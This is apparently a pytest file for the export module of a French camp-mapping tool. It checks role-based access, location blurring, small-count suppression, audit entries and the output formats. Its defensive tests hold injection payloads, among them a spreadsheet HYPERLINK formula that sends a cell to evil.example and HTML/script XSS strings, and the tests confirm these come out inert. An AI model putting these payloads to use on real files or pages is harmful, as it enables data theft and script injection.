"""Exports (issue 7): every format read back with a standard reader; what is shown is
what is exported; a partner's export is blurred and small counts suppressed; formula
injection payloads come out inert; file names; audit entries; the advocacy summary."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import html
import io
import itertools
import json
import math
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import h3
import markupsafe
import openpyxl
import pandas as pd
import pytest

from carto import privacy
from carto.accounts import ROLES
from carto.analytics import events, figures, population
from carto.dataset import Dataset
from carto.export import contents as X
from carto.export import files, formats, names, summary
from carto.export.formats import Table
from carto.filters import Filters
from carto.i18n import FR, format_datetime, format_int, t
from carto.options import AnalysisOptions
from carto.settings import Settings
from carto.store import AuthStore
from testing.hostile import HOSTILE

KML = "{http://www.opengis.net/kml/2.2}"
RES = 8  # partner_h3_resolution (default)
THRESHOLD = 5  # small_count_threshold (default)
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    "+33 6 00 00 00 00",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
    "  =1+1",
    "<script>alert(1)</script> & co",
]


@pytest.fixture(scope="module")
def opts(demo_settings: Settings) -> AnalysisOptions:
    return AnalysisOptions.from_settings(demo_settings)


@pytest.fixture(scope="module")
def staff(demo_dataset: Dataset, demo_settings: Settings) -> X.Scope:
    return X.scope_for(demo_dataset, "coordinateur", demo_settings, Filters(period="tout"))


@pytest.fixture(scope="module")
def partner(demo_dataset: Dataset, demo_settings: Settings) -> X.Scope:
    return X.scope_for(demo_dataset, "partenaire", demo_settings, Filters(period="tout"))


@pytest.fixture(scope="module")
def staff_tables(staff: X.Scope, opts: AnalysisOptions) -> dict[str, Table]:
    return {table.dataset: table for table in X.build(staff, opts, X.DATASETS)}


@pytest.fixture(scope="module")
def partner_tables(partner: X.Scope, opts: AnalysisOptions) -> dict[str, Table]:
    tables = X.build(partner, opts, X.datasets_for_role("partenaire"))
    return {table.dataset: table for table in tables}


def read_csv(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def injection_table() -> Table:
    frame = pd.DataFrame(
        {
            "comment": pd.Series(PAYLOADS, dtype="str"),
            "people": pd.Series([-3, 1, 2, 3, 4, 5, 6, 7], dtype="Int64"),
            "latitude": [-1.5, 48.85, 48.85, 48.85, 48.85, 48.85, 48.85, 48.85],
            "longitude": [2.35] * 8,
        }
    )
    labels = {
        "comment": "=Commentaire",
        "people": "Personnes",
        "latitude": "Lat",
        "longitude": "Lon",
    }
    names_ = pd.Series(PAYLOADS, dtype="str")
    return Table("passages", "Passages", frame, labels, names=names_, geometry="point")


# ------------------------------------------------------------------------ datasets


def test_roles_and_datasets() -> None:
    """The exports enforce the roles' table (privacy.ACCESS), which gives staff every
    dataset, a partner what aggregates camps, a volunteer nothing."""
    assert X.datasets_for_role("admin") == X.DATASETS
    assert X.datasets_for_role("coordinateur") == X.DATASETS
    assert X.datasets_for_role("partenaire") == ("camps", "events", "zones", "population")
    assert X.datasets_for_role("benevole") == ()
    assert X.datasets_for_role("visiteur") == ()
    assert set(privacy.ACCESS) == set(ROLES)
    for role, access in privacy.ACCESS.items():
        assert access.datasets <= set(X.DATASETS), role  # no dataset the exports lack
        assert set(X.datasets_for_role(role)) == access.datasets, role


def test_every_role_s_allowed_datasets_build_and_others_are_refused(
    demo_dataset: Dataset, demo_settings: Settings, opts: AnalysisOptions
) -> None:
    for role, access in privacy.ACCESS.items():
        scope = X.scope_for(demo_dataset, role, demo_settings, Filters(period="7j"))
        built = X.build(scope, opts, sorted(access.datasets))
        assert [table.dataset for table in built] == sorted(access.datasets), role
        for name in set(X.DATASETS) - access.datasets:
            with pytest.raises(X.ExportError):
                X.build(scope, opts, [name])


def test_refused_datasets_say_why_in_french(partner: X.Scope, opts: AnalysisOptions) -> None:
    with pytest.raises(X.ExportError, match="n'est pas exportable avec le rôle Partenaire"):
        X.build(partner, opts, ["passages"])
    with pytest.raises(X.ExportError, match="Jeu de données inconnu"):
        X.build(partner, opts, ["personnes"])


def test_passages_carry_record_and_camp_ids(
    staff_tables: dict[str, Table], demo_dataset: Dataset
) -> None:
    frame = staff_tables["passages"].frame
    assert list(frame.columns[:3]) == ["record_id", "camp_id", "camp_name"]
    assert frame["record_id"].notna().all() and frame["camp_id"].notna().all()
    assert frame["record_id"].is_unique
    assert set(frame["record_id"]) <= set(demo_dataset.passages["record_id"])
    assert frame["camp_name"].notna().all()


def test_exported_rows_are_the_views_rows(
    demo_dataset: Dataset, demo_settings: Settings, opts: AnalysisOptions
) -> None:
    """The export holds the rows the dashboard counts for the same filters and period."""
    f = Filters(period="30j", associations=("Utopia 56",))
    scope = X.scope_for(demo_dataset, "coordinateur", demo_settings, f)
    tables = {t.dataset: t for t in X.build(scope, opts, X.DATASETS)}
    ds = demo_dataset
    period = f.period_for(ds.today, X.first_day(ds))
    assert scope.period == period
    view = ds.passages[ds.passages["association"] == "Utopia 56"]
    shown = figures.in_period(view, period)
    assert tables["passages"].rows == len(shown) > 0
    assert set(tables["passages"].frame["record_id"]) == set(shown["record_id"])
    assert set(tables["passages"].frame["association"]) == {"Utopia 56"}
    days = population.day_range(period.start, period.end)
    pop = population.estimated_population(view, days, opts.population_window_days)
    assert tables["population"].rows == len(days) == 30
    assert tables["population"].frame["people"].tolist() == pop["people"].round().tolist()
    found = events.events_in(
        events.evacuation_events(view, ds.sites, 7, opts.evacuation_merge_days),
        period.start,
        period.end,
    )
    assert tables["events"].rows == len(found)
    assert set(tables["camps"].frame["camp_id"]) == set(shown["camp_id"])
    assert tables["camps"].frame["period_passages"].sum() == len(shown)
    sites = tables["sites"].frame
    assert set("S-" + sites["site_id"]) <= set(shown["camp_id"])


def test_population_export_carries_the_range(
    staff_tables: dict[str, Table], staff: X.Scope, opts: AnalysisOptions
) -> None:
    """Issue 20: each day's estimate with its low-high range, as the dashboard draws it."""
    frame = staff_tables["population"].frame
    assert (frame["people_low"] <= frame["people"]).all()
    assert (frame["people"] <= frame["people_high"]).all()
    assert (frame["people_high"] > frame["people_low"]).all()
    days = population.day_range(staff.period.start, staff.period.end)
    pop = X.estimate(staff.passages, days, opts)
    assert frame["people_low"].tolist() == pop["people_low"].tolist()
    assert frame["people_high"].tolist() == pop["people_high"].tolist()
    text = formats.to_csv(staff_tables["population"]).decode("utf-8-sig")
    header = text.splitlines()[0]
    assert t("export.col.people_low") in header and t("export.col.people_high") in header


def test_population_counts_minors_in_the_same_latest_counts(
    staff_tables: dict[str, Table],
) -> None:
    frame = staff_tables["population"].frame
    assert (frame["unaccompanied_minors"] <= frame["people"]).all()
    assert frame["unaccompanied_minors"].max() > 0


def test_codes_are_french_labels(staff_tables: dict[str, Table]) -> None:
    camps = staff_tables["camps"].frame
    assert set(camps["status"]) <= {"Actif", "Fermé (vide, évacué ou démantelé)", "Sans nouvelles"}
    ev = staff_tables["events"].frame
    assert ev["shelter"].str.startswith(("Mise à l'abri", "Aucune")).all()
    assert staff_tables["passages"].label("unaccompanied_minors") == "Mineurs non accompagnés"


# ------------------------------------------------------------------------ formats


def test_csv_reads_back_with_types_and_values(staff_tables: dict[str, Table]) -> None:
    table = staff_tables["passages"]
    rows = read_csv(formats.to_csv(table))
    assert len(rows) == table.rows
    first, frame = rows[0], table.frame
    assert list(first) == [table.label(c) for c in frame.columns]
    assert first["Identifiant Airtable"] == frame["record_id"].iloc[0]
    assert first["Identifiant du campement"] == frame["camp_id"].iloc[0]
    when = dt.datetime.strptime(first["Date"], "%Y-%m-%d %H:%M:%S")
    assert when == frame["date"].iloc[0].to_pydatetime().replace(tzinfo=None)
    assert float(first["Latitude"]) == frame["latitude"].iloc[0]
    people = [r["Personnes"] for r in rows if r["Personnes"]]
    assert people and all(re.fullmatch(r"\d+", p) for p in people)  # integers, not "36.0"
    pop = read_csv(formats.to_csv(staff_tables["population"]))
    assert (
        dt.date.fromisoformat(pop[0]["Jour"]) == staff_tables["population"].frame["day"][0].date()
    )


def test_csv_excel_francais(staff_tables: dict[str, Table]) -> None:
    table = staff_tables["events"]
    data = formats.to_csv(table, excel_fr=True)
    rows = read_csv(data, delimiter=";")
    assert len(rows) == table.rows
    frame = table.frame
    assert rows[0]["Latitude"] == repr(float(frame["latitude"][0])).replace(".", ",")
    assert re.fullmatch(r"\d\d/\d\d/\d{4}", rows[0]["Date"])
    assert rows[0]["Mise à l'abri proposée"] in ("oui", "non")
    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d", rows[0]["Premier signalement"])


def test_xlsx_one_typed_sheet_per_dataset(staff_tables: dict[str, Table]) -> None:
    tables = [staff_tables[name] for name in ("passages", "events", "population")]
    wb = openpyxl.load_workbook(io.BytesIO(formats.to_xlsx(tables)))
    assert wb.sheetnames == ["Passages", "Évacuations", "Population estimée"]
    for ws, table in zip(wb.worksheets, tables, strict=True):
        assert ws.max_row == table.rows + 1
        assert ws.freeze_panes == "A2"
        assert [c.value for c in ws[1]] == [table.label(c) for c in table.frame.columns]
        assert all(c.font.b for c in ws[1])
    ws = wb["Passages"]
    header = [c.value for c in ws[1]]
    row = {h: c for h, c in zip(header, ws[2], strict=True)}
    frame = staff_tables["passages"].frame
    assert isinstance(row["Date"].value, dt.datetime) and row["Date"].is_date
    assert row["Date"].value == frame["date"][0].to_pydatetime().replace(tzinfo=None)
    assert row["Latitude"].data_type == "n" and row["Latitude"].value == frame["latitude"][0]
    assert row["Personnes"].data_type == "n" and isinstance(row["Personnes"].value, int)
    assert row["Identifiant Airtable"].data_type == "s"
    pop = wb["Population estimée"]
    assert pop["A2"].is_date and pop["A2"].number_format == "DD/MM/YYYY"
    assert isinstance(pop["B2"].value, int)


def test_geojson_is_rfc7946(staff_tables: dict[str, Table]) -> None:
    table = staff_tables["camps"]
    doc = json.loads(formats.to_geojson(table).decode("utf-8"))
    assert doc["type"] == "FeatureCollection" and "crs" not in doc
    assert len(doc["features"]) == table.rows
    for feature, (_, row) in zip(doc["features"], table.frame.iterrows(), strict=True):
        assert feature["type"] == "Feature"
        assert feature["geometry"]["type"] == "Point"
        lon, lat = feature["geometry"]["coordinates"]
        assert (lon, lat) == (row["longitude"], row["latitude"])  # longitude first
        assert 1.4 < lon < 3.6 and 48.1 < lat < 49.25
        props = feature["properties"]
        assert feature["id"] == props["camp_id"] == row["camp_id"]
        assert isinstance(props["n_passages"], int)
        dt.datetime.fromisoformat(props["first_visit"])
    zones = json.loads(formats.to_geojson(staff_tables["zones"]))
    for feature in zones["features"]:
        ring = feature["geometry"]["coordinates"][0]
        assert feature["geometry"]["type"] == "Polygon" and ring[0] == ring[-1]
        area = sum(x1 * y2 - x2 * y1 for (x1, y1), (x2, y2) in itertools.pairwise(ring))
        assert area > 0  # counterclockwise exterior ring
        assert h3.latlng_to_cell(ring[0][1], ring[0][0], 9)  # valid lon/lat pairs


def test_kml_reads_back_with_names_and_descriptions(staff_tables: dict[str, Table]) -> None:
    table = staff_tables["events"]
    root = ET.fromstring(formats.to_kml(table))
    assert root.tag == f"{KML}kml"
    marks = root.findall(f"{KML}Document/{KML}Placemark")
    assert len(marks) == table.rows > 0
    for mark, (_, row) in zip(marks, table.frame.iterrows(), strict=True):
        name = mark.findtext(f"{KML}name")
        assert name and name.startswith("Évacuation du ") and str(row["name"]) in name
        assert "Personnes" in (mark.findtext(f"{KML}description") or "")
        lon, lat = map(float, (mark.findtext(f"{KML}Point/{KML}coordinates") or "").split(","))
        assert (lon, lat) == (row["longitude"], row["latitude"])
        data = {
            d.get("name"): d.findtext(f"{KML}value")
            for d in mark.findall(f"{KML}ExtendedData/{KML}Data")
        }
        assert data["event_id"] == row["event_id"]
        assert mark.findtext(f"{KML}TimeStamp/{KML}when") == f"{row['date']:%Y-%m-%d}"
    zones = ET.fromstring(formats.to_kml(staff_tables["zones"]))
    polygons = zones.findall(f".//{KML}Polygon")
    assert len(polygons) == staff_tables["zones"].rows


def test_passage_placemarks_are_named_by_camp_and_time(staff_tables: dict[str, Table]) -> None:
    table = staff_tables["passages"]
    assert table.names is not None and table.rows > 0
    expected = [
        f"{camp} – {format_datetime(when)}"
        for camp, when in zip(table.frame["camp_name"], table.frame["date"], strict=True)
    ]
    assert table.names.tolist() == expected


def test_population_has_no_map_format(staff_tables: dict[str, Table], staff: X.Scope) -> None:
    with pytest.raises(formats.FormatError, match="n'a pas de position"):
        formats.to_geojson(staff_tables["population"])
    with pytest.raises(formats.FormatError, match="n'a pas de position"):
        files.plan([staff_tables["population"]], "kml", staff)


# ----------------------------------------------------------------------- safety


@pytest.mark.parametrize("payload", PAYLOADS[:7])
def test_neutralise_prefixes_formula_starts(payload: str) -> None:
    assert formats.neutralise(payload) == "'" + payload


def test_neutralise_leaves_plain_text() -> None:
    for text in ("Porte de la Chapelle", "75018", "2 tentes - 3 couvertures", ""):
        assert formats.neutralise(text) == text


def test_injection_payloads_come_out_inert_in_csv_and_xlsx() -> None:
    table = injection_table()
    for data, delimiter in ((formats.to_csv(table), ","), (formats.to_csv(table, True), ";")):
        rows = list(
            csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter)
        )
        assert rows[0][0] == "'=Commentaire"
        for row, payload in zip(rows[1:], PAYLOADS, strict=True):
            expected = payload if payload.startswith("<") else "'" + payload
            assert row[0] == expected
        assert rows[1][1] == "-3"  # a negative number stays a number
        assert rows[1][2] in ("-1.5", "-1,5")
    ws = openpyxl.load_workbook(io.BytesIO(formats.to_xlsx([table]))).active
    assert ws is not None
    for (cell,), payload in zip(ws.iter_rows(min_row=2, max_col=1), PAYLOADS, strict=True):
        assert cell.data_type == "s"
        expected = payload if payload.startswith("<") else "'" + payload
        assert cell.value == expected.replace("\r", "\n")  # XML reads a CR back as LF
    assert ws["B2"].value == -3 and ws["B2"].data_type == "n"
    assert ws["C2"].value == -1.5 and ws["C2"].data_type == "n"


IMG = '<img src="https://evil.example/p.png" onerror=alert(1)>'


def kml_marks(data: bytes) -> list[ET.Element]:
    return ET.fromstring(data).findall(f"{KML}Document/{KML}Placemark")


def test_kml_names_and_data_values_come_out_inert_after_xml_parsing() -> None:
    """Google Earth renders a placemark's name, description and data values as HTML:
    after XML parsing, a record's text must be escaped HTML in each, never live markup
    (the security review's payload, in a comment and as a camp's name)."""
    frame = pd.DataFrame(
        {
            "comment": pd.Series([IMG, "Tentes & couvertures"], dtype="str"),
            "latitude": [48.85, 48.86],
            "longitude": [2.35, 2.36],
        }
    )
    names_ = pd.Series([IMG, "Pont <b>"], dtype="str")
    table = Table("passages", "Passages", frame, {"comment": "Commentaire"}, names=names_)
    table = dataclasses.replace(table, geometry="point")
    marks = kml_marks(formats.to_kml(table))
    assert len(marks) == 2
    for mark, name, comment in zip(marks, names_, frame["comment"], strict=True):
        assert mark.findtext(f"{KML}name") == html.escape(name, quote=False)
        values = {
            d.get("name"): d.findtext(f"{KML}value")
            for d in mark.findall(f"{KML}ExtendedData/{KML}Data")
        }
        assert values["comment"] == html.escape(comment, quote=False)
        assert "<img" not in (mark.findtext(f"{KML}description") or "")
        for text in (mark.findtext(f".//{KML}{tag}") or "" for tag in ("name", "value")):
            assert "<" not in text and ">" not in text


def test_a_control_character_in_a_record_leaves_a_well_formed_kml() -> None:
    """XML forbids most control characters (and U+FFFE, U+FFFF): one in a comment made
    the whole file unreadable; they are removed, the rest of the text kept."""
    texts = ["bonne soirée\x01\x0b", "a\x00b\x1fc\ufffe\uffff", "ligne\nsuivante\td"]
    frame = pd.DataFrame(
        {"comment": pd.Series(texts, dtype="str"), "latitude": [48.85] * 3, "longitude": [2.35] * 3}
    )
    table = Table("passages", "Passages", frame, {"comment": "Commentaire"}, names=pd.Series(texts))
    table = dataclasses.replace(table, geometry="point")
    marks = kml_marks(formats.to_kml(table))
    kept = ["bonne soirée", "abc", "ligne\nsuivante\td"]
    for mark, text in zip(marks, kept, strict=True):
        assert mark.findtext(f"{KML}name") == text
        assert mark.findtext(f"{KML}ExtendedData/{KML}Data/{KML}value") == text
        assert text.split("\n")[0] in (mark.findtext(f"{KML}description") or "")


def test_a_passage_comment_payload_through_the_whole_export(
    demo_dataset: Dataset, demo_settings: Settings, opts: AnalysisOptions
) -> None:
    ds = demo_dataset
    target = ds.passages.index[-1]
    payload = PAYLOADS[0] + " " + PAYLOADS[-1]
    comment = ds.passages["comment"].copy()
    comment[target] = payload
    team = ds.passages["team"].copy()
    team[target] = PAYLOADS[3]
    ds = dataclasses.replace(ds, passages=ds.passages.assign(comment=comment, team=team))
    record = ds.passages.loc[target, "record_id"]
    scope = X.scope_for(ds, "admin", demo_settings, Filters(period="7j"))
    table = X.build_one(scope, opts, "passages")
    rows = {r["Identifiant Airtable"]: r for r in read_csv(formats.to_csv(table))}
    assert rows[record]["Commentaire"] == "'" + payload
    assert rows[record]["Équipe"] == "'" + PAYLOADS[3]
    wb = openpyxl.load_workbook(io.BytesIO(formats.to_xlsx([table])))
    values = [c.value for row in wb.worksheets[0].iter_rows() for c in row]
    assert "'" + payload in values and payload not in values
    assert "'" + PAYLOADS[3] in values and PAYLOADS[3] not in values
    root = ET.fromstring(formats.to_kml(table))
    mark = next(
        m
        for m in root.iter(f"{KML}Placemark")
        if any(d.findtext(f"{KML}value") == record for d in m.iter(f"{KML}Data"))
    )
    description = mark.findtext(f"{KML}description") or ""
    assert "&lt;script&gt;" in description and "<script>" not in description
    assert "&amp; co" in description
    props = [
        f["properties"]
        for f in json.loads(formats.to_geojson(table))["features"]
        if f["id"] == record
    ]
    assert props[0]["comment"] == payload  # JSON is data, not a spreadsheet


# ---------------------------------------------------------------------- privacy


def assert_zone_centre(lat: float, lon: float) -> None:
    assert privacy.is_zone_centre(lat, lon, RES), (lat, lon)


def test_partner_tables_hold_no_exact_position_and_no_small_count(
    partner_tables: dict[str, Table],
) -> None:
    assert set(partner_tables) == set(X.datasets_for_role("partenaire"))
    for name, table in partner_tables.items():
        frame = table.frame
        if "latitude" in frame.columns:
            for lat, lon in zip(frame["latitude"], frame["longitude"], strict=True):
                if not (math.isnan(lat) or math.isnan(lon)):
                    assert_zone_centre(lat, lon)
        for col in privacy.DERIVED_COUNT_COLUMNS:
            if col in frame.columns:
                values = pd.to_numeric(frame[col], errors="coerce")
                small = values[(values > 0) & (values < THRESHOLD)]
                assert small.empty, (name, col, small.tolist())
                assert col + privacy.SUPPRESSED_SUFFIX in frame.columns, (name, col)
        for text in ("comment", "team", "location_text", "notes", "record_ids"):
            assert text not in frame.columns, (name, text)


def test_partner_files_hold_no_exact_position(partner_tables: dict[str, Table]) -> None:
    found = 0
    for name in ("camps", "events", "zones"):
        table = partner_tables[name]
        for feature in json.loads(formats.to_geojson(table))["features"]:
            props = feature["properties"]
            assert_zone_centre(props["latitude"], props["longitude"])
            if feature["geometry"]["type"] == "Point":
                lon, lat = feature["geometry"]["coordinates"]
                assert_zone_centre(lat, lon)
            found += 1
        root = ET.fromstring(formats.to_kml(table))
        for point in root.iter(f"{KML}Point"):
            lon, lat = map(float, (point.findtext(f"{KML}coordinates") or "").split(","))
            assert_zone_centre(lat, lon)
        for row in read_csv(formats.to_csv(table, excel_fr=True), delimiter=";"):
            lat = float(row["Latitude"].replace(",", "."))
            lon = float(row["Longitude"].replace(",", "."))
            assert_zone_centre(lat, lon)
            for key, value in row.items():
                if value.isdigit() and key.startswith(("Personnes", "Mineurs", "Familles")):
                    assert not 0 < int(value) < THRESHOLD, (name, key, value)
    assert found > 10


def test_a_small_derived_count_is_suppressed_in_a_partners_files(
    demo_dataset: Dataset, demo_settings: Settings, opts: AnalysisOptions
) -> None:
    """People minus sheltered can fall under the threshold even when both counts are
    above it: the export's last guard suppresses it and flags it, and suppresses the
    sheltered too (people minus sheltered would give the hidden part back)."""
    ds = demo_dataset
    reports = ds.passages[ds.passages["evacuation"].isin(events.EVACUATION_KINDS)]
    first = reports.iloc[0]
    same = (ds.passages["camp_id"] == first["camp_id"]) & (ds.passages["day"] == first["day"])
    people = ds.passages["people"].mask(same, 9.0)
    sheltered = ds.passages["sheltered"].mask(same, 6.0)
    ds = dataclasses.replace(ds, passages=ds.passages.assign(people=people, sheltered=sheltered))
    raw_id = f"{first['camp_id']}@{first['day']:%Y-%m-%d}"
    opaque = privacy.hide_record_ids(pd.DataFrame({"id": [raw_id]}))["id"].iloc[0]
    for role, hidden in (("coordinateur", False), ("partenaire", True)):
        event_id = opaque if hidden else raw_id  # as each role's files name it
        scope = X.scope_for(ds, role, demo_settings, Filters(period="tout"))
        table = X.build_one(scope, opts, "events")
        row = table.frame[table.frame["event_id"] == event_id].iloc[0]
        assert row["people"] == 9
        if not hidden:
            assert row["sheltered"] == 6 and row["without_solution"] == 3
            assert "without_solution_suppressed" not in table.frame.columns
            continue
        assert pd.isna(row["without_solution"]) and row["without_solution_suppressed"]
        assert pd.isna(row["sheltered"]) and row["sheltered_suppressed"]
        label = table.label("without_solution_suppressed")
        assert (
            label
            == "Personnes sans solution : masqué (moins de 5, ou pour qu'un total ne le révèle pas)"
        )
        rows = read_csv(formats.to_csv(table))
        line = next(r for r in rows if r["Identifiant de l'évacuation"] == event_id)
        assert line["Personnes sans solution"] == "" and line[label] == "oui"
        assert line["Personnes mises à l'abri"] == ""
        feature = next(
            f for f in json.loads(formats.to_geojson(table))["features"] if f["id"] == event_id
        )
        assert feature["properties"]["without_solution"] is None
        assert feature["properties"]["without_solution_suppressed"] is True
        assert feature["properties"]["sheltered"] is None


# ------------------------------------------------------------------ names, audit


def test_file_names_are_ascii_and_say_what_is_inside(staff: X.Scope, partner: X.Scope) -> None:
    period = staff.period
    f = Filters(
        associations=("Croix-Rouge française",),
        arrondissements=("93 Saint-Denis",),
        publics=("mna",),
    )
    name = names.file_name(["passages"], "csv", period, f, "coordinateur")
    assert name == (
        f"cartocampement_passages_{period.start:%Y-%m-%d}_{period.end:%Y-%m-%d}"
        "_croix-rouge-francaise_93-saint-denis_mna.csv"
    )
    many = Filters(needs=("Couvertures/duvets", "Hébergement", "Accès aux droits", "Eau", "Tentes"))
    long = names.file_name(["camps", "zones"], "xlsx", period, many, "partenaire")
    assert re.fullmatch(r"[a-z0-9._-]+", long) and long.isascii()
    assert "_etc_" in long and long.endswith("_partenaire.xlsx") and "camps-zones" in long
    planned = files.plan([], "xlsx", partner)
    assert planned[0].name.endswith("_partenaire.xlsx")


def test_each_export_writes_an_audit_entry(
    tmp_path: Path, staff_tables: dict[str, Table], staff: X.Scope
) -> None:
    store = AuthStore(tmp_path / "audit.sqlite")
    tables = [staff_tables["passages"], staff_tables["zones"]]
    (workbook,) = files.plan(tables, "xlsx", staff)
    files.record(store, "coordinateur", workbook, staff)
    (csv_file,) = files.plan([staff_tables["events"]], "csv", staff, excel_fr=True)
    files.record(store, "cli:someone", csv_file, staff)
    entries = store.audit_log(event="export")
    assert [e["details"]["dataset"] for e in entries] == ["events", "zones", "passages"]
    latest = entries[0]
    assert latest["username"] == "cli:someone"
    assert latest["details"]["format"] == "csv-excel-fr"
    assert latest["details"]["rows"] == staff_tables["events"].rows
    assert latest["details"]["role"] == "coordinateur"
    assert latest["details"]["filters"]["du"] == f"{staff.period.start:%Y-%m-%d}"
    assert latest["details"]["filters"]["fichier"] == csv_file.name
    assert entries[2]["details"]["rows"] == staff_tables["passages"].rows
    assert isinstance(latest["at"], dt.datetime)


# ---------------------------------------------------------------------- summary


def test_summary_figures_match_the_datasets(
    staff: X.Scope, staff_tables: dict[str, Table], opts: AnalysisOptions
) -> None:
    s = summary.summary_figures(staff, opts)
    pop = staff_tables["population"].frame
    assert s.population_end == pop["people"].iloc[-1]
    assert s.minors_end == pop["unaccompanied_minors"].iloc[-1]
    assert s.population_peak == pop["people"].max()
    ev = staff_tables["events"].frame
    assert s.total.events == len(ev) == sum(line.events for line in s.evacuations)
    assert s.total.people == ev["people"].sum()
    assert s.total.without_solution == ev["without_solution"].sum()
    assert s.passages == staff_tables["passages"].rows
    assert s.population_end_low == pop["people_low"].iloc[-1]
    assert s.population_end_high == pop["people_high"].iloc[-1]
    page = summary.summary_html(s)
    low, high = format_int(s.population_end_low), format_int(s.population_end_high)
    # written as the template escapes it (Jinja2: ' as &#39;)
    assert str(markupsafe.escape(t("summary.population.range", low=low, high=high))) in page
    assert str(markupsafe.escape(t("summary.method.range"))) in page
    services = figures.services_delivered(staff.passages, staff.period)
    assert s.services == {k: int(v) for k, v in services.items()}


def test_summary_html_is_french_escaped_and_printable(
    staff: X.Scope, opts: AnalysisOptions
) -> None:
    scope = dataclasses.replace(staff, filters=Filters(associations=("<b>Asso & co</b>",)))
    s = summary.summary_figures(scope, opts, now=dt.datetime(2026, 11, 26, 9, 30))
    page = summary.summary_html(s)
    assert page.startswith("<!DOCTYPE html>") and '<html lang="fr">' in page
    assert "@page { size: A4" in page and "<script" not in page and "onclick" not in page
    assert f"Synthèse du {s.start:%d/%m/%Y} au {s.end:%d/%m/%Y}" in page
    assert "&lt;b&gt;Asso &amp; co&lt;/b&gt;" in page and "<b>Asso" not in page
    for heading in ("Population estimée", "Évacuations", "Services délivrés", "Méthode"):
        assert f"<h2>{heading}</h2>" in page
    assert "Sans aucune mise à l&#39;abri" in page or "Sans aucune mise à l'abri" in page
    assert "Ne sont pas comptées" in page and "édité le 26/11/2026 à 09:30" in page
    assert not re.search(r"\d{4}-\d\d-\d\d", page.split("</style>")[1])  # no ISO dates shown
    assert "window.print()" in summary.summary_html(s, print_button=True)


def test_summary_html_escapes_hostile_text_everywhere_it_quotes_it(
    staff: X.Scope, opts: AnalysisOptions
) -> None:
    """The template's autoescape covers each typed text the page quotes: the filters'
    associations and the associations of the period."""
    scope = dataclasses.replace(staff, filters=Filters(associations=(HOSTILE,)))
    s = dataclasses.replace(summary.summary_figures(scope, opts), associations=(HOSTILE, "x\"'<>&"))
    page = summary.summary_html(s)
    assert "<img" not in page and "<b>" not in page and "x\"'<>&" not in page
    assert page.count(html.escape(HOSTILE, quote=False)) == 2  # filters and associations
    assert "&lt;&gt;&amp;" in page and "<>&" not in page
    body = page.split("</style>")[1]
    assert re.findall(r"<(\w+)", body) and set(re.findall(r"<(\w+)", body)) <= {
        *("main", "header", "h1", "h2", "p", "div", "section", "table", "thead", "tbody"),
        *("tr", "th", "td", "svg", "polyline", "ul", "li", "footer", "body", "html"),
    }


def test_partner_summary_masks_small_counts(partner: X.Scope, opts: AnalysisOptions) -> None:
    s = summary.summary_figures(partner, opts)
    page = summary.summary_html(s)
    assert "masqués" in page
    small = [
        v
        for line in (*s.evacuations, s.total)
        for v in (line.people, line.sheltered, line.without_solution, line.minors)
        if 0 < v < THRESHOLD
    ]
    if small:
        assert "&lt;5" in page


def test_summary_writes_a_small_count_as_privacy_does(
    partner: X.Scope, opts: AnalysisOptions, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One rule and one label for a hidden count: the summary asks ``privacy`` (and so the
    catalogue), it does not write "<5" itself."""
    s = summary.summary_figures(partner, opts)
    assert s.peak_day is not None
    small = dataclasses.replace(s, population_peak=float(THRESHOLD - 1))
    monkeypatch.setitem(FR, "privacy.small_count", "moins de {n}")
    page = summary.summary_html(small)
    assert f"moins de {THRESHOLD}" in page


def test_a_partners_files_hold_no_airtable_record_id(
    partner_tables: dict[str, Table], staff_tables: dict[str, Table]
) -> None:
    """With a base's record id, someone who can open the base finds the record: its
    exact position, its comments. A partner's files carry stand-ins instead, the same in
    every file (events still name the camps of the camps file)."""
    record_id = privacy.RECORD_ID
    assert any(  # staff files do carry them: the check below can fail
        table.frame.astype("str").apply(lambda col: col.str.contains(record_id)).any().any()
        for table in staff_tables.values()
    )
    for name, table in partner_tables.items():
        text = table.frame.astype("str")
        assert not text.apply(lambda col: col.str.contains(record_id)).any().any(), name
    camps_ids = set(partner_tables["camps"].frame["camp_id"])
    event_camps = set(partner_tables["events"].frame["camp_id"])
    assert event_camps and event_camps <= camps_ids
    staff_camp = str(staff_tables["camps"].frame["camp_id"].iloc[0])
    hidden = privacy.hide_record_ids(pd.DataFrame({"camp_id": [staff_camp]}))["camp_id"].iloc[0]
    assert hidden != staff_camp and privacy.RECORD_ID.search(hidden) is None
